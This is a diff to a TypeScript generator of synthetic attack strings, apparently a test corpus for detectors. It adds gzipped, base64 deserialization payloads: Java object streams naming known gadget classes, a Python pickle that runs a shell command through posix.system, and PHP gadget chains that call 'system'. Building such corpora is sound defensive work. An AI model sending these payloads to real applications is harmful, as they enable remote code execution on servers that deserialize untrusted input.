@@ -3,6 +3,7 @@
  * expressions, JNDI lookups with the nesting and lookup obfuscations log4shell exploitation used,
  * and serialized-object markers (raw, base64, hex, gzip) across Java, .NET, PHP, Python, Ruby, Node.
  */
+import { gzipSync } from 'node:zlib';
 import type { AttackFamily } from './family.js';
 import { attackerHost, attackerIp, attackerUrl, base64, hex, int, maybe, percentEncode, pick, unixCommand, type Random } from './grammar.js';
 
@@ -144,6 +145,40 @@ function jndi(random: Random): string {
   }
 }
 
+/** Gadget classes a serialized Java payload names first (the chain's entry object). */
+const JAVA_GADGET_CLASSES = [
+  'java.util.PriorityQueue', 'java.util.HashMap', 'java.util.HashSet', 'sun.reflect.annotation.AnnotationInvocationHandler',
+  'javax.management.BadAttributeValueExpException', 'org.apache.commons.collections.functors.InvokerTransformer',
+  'org.apache.commons.collections4.comparators.TransformingComparator', 'com.sun.rowset.JdbcRowSetImpl',
+];
+
+/** The first bytes of a Java object stream: magic, a class descriptor (name, serialVersionUID, flags) and a field. */
+function javaObjectStream(random: Random): Buffer {
+  const name = Buffer.from(pick(JAVA_GADGET_CLASSES, random), 'latin1');
+  const uid = Buffer.alloc(8);
+  for (let i = 0; i < 8; i++) uid[i] = int(random, 0, 255);
+  const field = Buffer.from(pick(['comparator', 'loadFactor', 'iMethodName', 'val', 'memberValues'], random), 'latin1');
+  return Buffer.concat([
+    Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, name.length]), name, uid,
+    Buffer.from([0x02, 0x00, 0x01, 0x4c, 0x00, field.length]), field,
+    Buffer.from([0x74, 0x00, 0x16]), Buffer.from('Ljava/util/Comparator;', 'latin1'), Buffer.from([0x78, 0x70]),
+  ]);
+}
+
+/**
+ * A serialized object compressed and base64'd, as `ysoserial … | gzip | base64` writes it and as
+ * apps that keep compressed state in a parameter or cookie receive it: Java, a Python pickle calling
+ * os.system, or a PHP object.
+ */
+function gzippedSerializedObject(random: Random): string {
+  const payload = pick([
+    () => javaObjectStream(random),
+    () => Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from(`\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094\u008c${unixCommand(random)}\u0094\u0085\u0094R\u0094.`, 'latin1')]),
+    () => Buffer.from(`O:${int(random, 4, 30)}:"${pick(['Monolog\\Handler\\SyslogUdpHandler', 'GuzzleHttp\\Psr7\\FnStream', 'Illuminate\\Broadcasting\\PendingBroadcast'], random)}":1:{s:6:"events";O:${int(random, 4, 30)}:"${pick(['Illuminate\\Events\\Dispatcher', 'Faker\\Generator'], random)}":1:{s:12:"\u0000*\u0000listeners";a:1:{s:${int(random, 2, 9)}:"${javaCommand(random)}";a:1:{i:0;s:6:"system";}}}}`, 'latin1'),
+  ], random)();
+  return gzipSync(payload).toString('base64');
+}
+
 function serializedObject(random: Random): string {
   const javaB64 = `rO0AB${pick(['XNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw', 'XNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg', 'XNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0', 'XNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u'], random)}`;
   switch (int(random, 0, 9)) {
@@ -152,7 +187,7 @@ function serializedObject(random: Random): string {
     case 1:
       return `aced0005${pick(['7372', '737d', '7372001', '73720011'], random)}${hex('java.util.HashMap').slice(0, int(random, 8, 30))}`.toUpperCase();
     case 2:
-      return `H4sIAAAAAAAA${pick(['AFvzlKZWPdAbUeJSSsISgwNCk0tKsrPsy0pLkm1', 'AJVSTWvCQBC9', 'AFWOQQ6CMBBF7zJr'], random)}`;
+      return gzippedSerializedObject(random);
     case 3:
       return `AAEAAAD/////AQAAAAAAAAAMAgAAA${pick(['F9TeXN0ZW0uV2luZG93cy5EYXRh', 'EtTeXN0ZW0sIFZlcnNpb249'], random)}`;
     case 4:
